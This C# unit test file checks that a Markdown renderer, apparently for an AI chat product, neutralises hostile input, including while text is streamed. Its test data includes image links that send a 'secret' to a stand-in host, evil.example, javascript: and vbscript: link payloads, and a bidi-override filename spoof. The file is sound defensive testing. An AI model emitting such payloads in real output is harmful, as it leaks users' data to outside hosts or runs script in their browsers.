namespace Nova.Tests.Unit.Markdown;

public sealed class MarkdownSafetyTests
{
    [Fact]
    public void EveryHostileSampleRendersToAllowedMarkupOnly()
    {
        var renderer = MarkdownTestRenderer.Create();

        foreach (var sample in HostileCorpus.Samples)
        {
            SafeHtml.Assert(renderer.Render(sample), sample);
        }
    }

    [Fact]
    public void HostileSamplesSplitAtEveryPositionAreSafeAtEachStep()
    {
        var renderer = MarkdownTestRenderer.Create();

        foreach (var sample in HostileCorpus.Short)
        {
            for (var split = 0; split <= sample.Length; split++)
            {
                var incremental = renderer.CreateIncremental();
                SafeHtml.Assert(incremental.Append(sample[..split]).Html(), sample[..split]);
                SafeHtml.Assert(incremental.Append(sample[split..]).Html(), sample);
            }
        }
    }

    [Fact]
    public void HostileSamplesStreamedTokenByTokenAreSafeAtEachStep()
    {
        var renderer = MarkdownTestRenderer.Create();

        foreach (var sample in HostileCorpus.Samples)
        {
            var incremental = renderer.CreateIncremental();
            var soFar = "";
            foreach (var token in Pieces(sample))
            {
                soFar += token;
                SafeHtml.Assert(incremental.Update(soFar).Html(), soFar);
            }
        }
    }

    // The huge samples are one block each, re-rendered whole on every update; 64 pieces keep the
    // run short while still cutting through them.
    private static IEnumerable<string> Pieces(string sample) =>
        sample.Length <= 2_000 ? AnswerCorpus.Tokens(sample) : sample.Chunk((sample.Length + 63) / 64).Select(c => new string(c));

    [Theory]
    [InlineData("![x](https://evil.example/p.png?q=secret)")]
    [InlineData("![x][img]\n\n[img]: https://evil.example/p.png?q=secret")]
    [InlineData("[![x](https://evil.example/p.png?q=secret)](https://ok.example)")]
    [InlineData("| a |\n|---|\n| ![x](https://evil.example/p.png?q=secret) |")]
    public void ImagesAreNeverLoadedButShownAsTextWithALink(string markdown)
    {
        var html = MarkdownTestRenderer.Create().Render(markdown);

        var document = SafeHtml.Parse(html);
        Assert.Empty(document.QuerySelectorAll("img, picture, source, video, audio, object, embed, iframe, svg"));
        Assert.All(document.QuerySelectorAll("*"), e => Assert.False(e.HasAttribute("src") || e.HasAttribute("srcset") || e.HasAttribute("style") && e.LocalName is not ("th" or "td")));
        var placeholder = Assert.Single(document.QuerySelectorAll("span.nova-image"));
        Assert.StartsWith("[image: x]", placeholder.TextContent);
    }

    [Fact]
    public void ImageWithAForbiddenSchemeKeepsItsTextAndLosesTheLink()
    {
        var html = MarkdownTestRenderer.Create().Render("![x](javascript:alert(1))");

        var placeholder = Assert.Single(SafeHtml.Parse(html).QuerySelectorAll("span.nova-image"));
        Assert.StartsWith("[image: x]", placeholder.TextContent);
        Assert.Empty(placeholder.QuerySelectorAll("a[href]"));
    }

    [Theory]
    [InlineData("[click](javascript:alert(1))")]
    [InlineData("[click](jav&#x61;script:alert(1))")]
    [InlineData("[click](JaVaScRiPt:alert(1))")]
    [InlineData("[click](vbscript:msgbox(1))")]
    [InlineData("[click](data:text/html,x)")]
    [InlineData("[click](/relative/path)")]
    [InlineData("[click](//evil.example/x)")]
    [InlineData("<javascript:alert(1)>")]
    public void LinksWithForbiddenOrRelativeTargetsAreNeutralised(string markdown)
    {
        var html = MarkdownTestRenderer.Create().Render(markdown);

        var link = Assert.Single(SafeHtml.Parse(html).QuerySelectorAll("a"));
        Assert.False(link.HasAttribute("href"));
    }

    [Fact]
    public void BidiOverridesAndNulBytesDoNotSurvive()
    {
        var html = MarkdownTestRenderer.Create().Render("file \u202Egpj.exe\u202C \u2066x\u2069 nul\0");

        Assert.DoesNotContain(html, c => c is '\0' or '\u202E' or '\u202C' or '\u2066' or '\u2069');
        Assert.Contains("gpj.exe", html);
    }
}
